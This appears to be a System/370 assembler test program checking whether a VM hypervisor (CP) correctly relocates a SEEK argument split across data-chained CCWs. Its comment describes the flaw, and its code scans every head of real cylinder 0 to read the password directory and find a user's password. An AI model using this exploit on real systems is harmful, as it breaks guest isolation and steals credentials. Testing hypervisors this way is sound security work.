***********************************************************************
*  SPLITSEEK: a SEEK argument split across data-chained CCWs.         *
*                                                                     *
*  The attack.  A SEEK's six bytes (BB CC HH) may come from two CCWs  *
*  joined by data chaining:                                           *
*     SEEK        2 bytes (BB) from SEEKBB, chain data                *
*     X'06'       4 bytes (CC HH) from CCHH - its command byte is     *
*                 ignored: it only continues the SEEK's data          *
*  A CP that relocates the cylinder in each CCW's OWN argument moves  *
*  bytes 2-3 of a copy the channel never reads past byte 1, and       *
*  takes the second CCW for a READ whose data it leaves in guest      *
*  storage: the cylinder the device sees is the guest's own number,   *
*  a real cylinder.  Here: real cylinder 0, where the IPL records,    *
*  CP (its first page holds the directory with every password) and   *
*  the CMS nucleus are.  For every head, the program seeks there and  *
*  reads R0 and R1 and looks for BOB's password.                      *
*                                                                     *
*  A correct CP relocates the argument the channel actually uses (it  *
*  builds it whole from the data chain, or refuses a split argument   *
*  with a program check): the seek lands on the guest's own cylinder  *
*  0, head hh, or nowhere.                                            *
*                                                                     *
*  X'600D': the password is nowhere; X'BAD1': found on some head.     *
***********************************************************************
         COPY  GUEST
SPLITSK  START X'8000'
         BALR  R12,0
         USING *,R12
         SR    R7,R7               head 0 to 29
LOOP     STC   R7,CCHH+3
         LA    R1,ATTACK
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   NEXT
         LA    R3,MARKER
         L     R4,=A(BUF1)
         L     R5,=F'4104'
         BAL   R14,FIND
         BE    LEAKED
NEXT     LA    R7,1(R7)
         C     R7,=F'30'
         BL    LOOP
         LPSW  GOOD
LEAKED   LPSW  BAD1
ATTACK   CCW   X'07',SEEKBB,X'80',2        SEEK: BB, then chain data
         CCW   X'06',CCHH,X'40',4          ... CC HH (command ignored)
         CCW   X'16',BUF2,X'60',64         READ R0
         CCW   X'1E',BUF1,X'20',8192       READ COUNT, KEY AND DATA: R1
SEEKBB   DC    XL6'00'                     (CP copies six bytes here)
CCHH     DC    X'00000000'                 real cylinder 0, head (set)
MARKER   DC    C'SWORDFSH'                 BOB's password
         COPY  DOIO
         END
